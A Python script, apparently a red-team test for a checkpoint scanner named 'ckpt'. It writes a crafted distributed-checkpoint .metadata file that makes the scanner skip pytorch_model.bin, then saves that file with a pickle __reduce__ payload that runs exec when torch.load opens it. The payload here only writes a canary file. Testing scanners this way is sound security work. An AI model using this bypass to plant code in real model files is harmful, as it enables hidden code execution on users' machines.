"""A folder holding a DCP `.metadata` whose storage_data names `pytorch_model.bin` as a data file (with
no usable byte range), and `pytorch_model.bin`: an ordinary malicious torch.save file. ckpt treats
pytorch_model.bin as a DCP data file and only scans the slices the metadata gives (none), so neither
`ckpt lint folder/pytorch_model.bin` nor `ckpt lint folder` looks at its pickle; torch.load(pytorch_model.bin)
runs it. Payload: writes a canary file."""
import os
import pickle
import sys

import torch
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata, MetadataIndex

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/dcp_owned"
folder = sys.argv[2] if len(sys.argv) > 2 else "ckpt_folder"
os.makedirs(folder, exist_ok=True)

md = Metadata(state_dict_metadata={"extra": BytesStorageMetadata()}, planner_data=None,
              storage_data={MetadataIndex("extra"): _StorageInfo("pytorch_model.bin", None, None)})
with open(os.path.join(folder, ".metadata"), "wb") as f:
    pickle.dump(md, f)

class Payload:
    def __reduce__(self):
        return (exec, (f"open({canary!r}, 'w').write('ran')",))

torch.save({"weight": torch.zeros(2), "x": Payload()}, os.path.join(folder, "pytorch_model.bin"))
print("wrote", folder)
